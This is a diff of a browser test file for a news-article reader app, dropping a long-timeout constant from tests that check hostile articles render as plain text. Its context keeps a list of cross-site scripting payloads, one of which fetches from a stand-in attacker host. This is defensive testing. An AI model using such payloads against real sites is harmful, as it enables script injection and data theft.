@@ -13,7 +13,6 @@ from playwright.sync_api import expect
 from newstables.store import Store
 
 pytestmark = pytest.mark.browser
-SLOW = 60_000
 ELSEWHERE = "attack.invalid"
 ATTACKS = [
     f"<script>window.attacked = 'script'; fetch('http://{ELSEWHERE}/script')</script>",
@@ -79,8 +78,8 @@ def assert_unharmed(page) -> None:
 
 
 def settled(page) -> None:
-    expect(page.locator("[data-testid=stMain] h1, [data-testid=stMain] h2").first).to_be_visible(timeout=SLOW)
-    expect(page.locator("[data-testid=stApp]")).to_have_attribute("data-test-script-state", "notRunning", timeout=SLOW)
+    expect(page.locator("[data-testid=stMain] h1, [data-testid=stMain] h2").first).to_be_visible()
+    expect(page.locator("[data-testid=stApp]")).to_have_attribute("data-test-script-state", "notRunning")
     page.wait_for_timeout(1500)  # time for what should not happen
 
 
@@ -98,9 +97,9 @@ def test_the_reader_shows_it_as_text(address, watched, store, number):
     articles = Store(store).articles()
     article = articles[articles["file"].str.contains(f"attack{number}.md")].iloc[0]
     watched.goto(f"{address}/articles?article={article.article_id}&at=0-9")
-    expect(watched.locator("article")).to_contain_text(ATTACKS[number], timeout=SLOW)
+    expect(watched.locator("article")).to_contain_text(ATTACKS[number])
     settled(watched)
-    expect(watched.locator("[data-testid=stHeading]").first).to_contain_text(ATTACKS[number], timeout=SLOW)
+    expect(watched.locator("[data-testid=stHeading]").first).to_contain_text(ATTACKS[number])
     for mark in watched.locator("article [data-words]").all()[:4]:
         mark.hover()
     assert_unharmed(watched)
@@ -113,7 +112,7 @@ def test_two_hostile_articles_are_compared_as_text(address, watched):
         box = watched.locator(f".st-key-{key}").get_by_role("combobox")
         box.click()
         watched.get_by_role("option").nth(place).click()
-    expect(watched.get_by_role("tab").first).to_be_visible(timeout=SLOW)
+    expect(watched.get_by_role("tab").first).to_be_visible()
     for tab in watched.get_by_role("tab").all():
         tab.click()
         watched.wait_for_timeout(300)
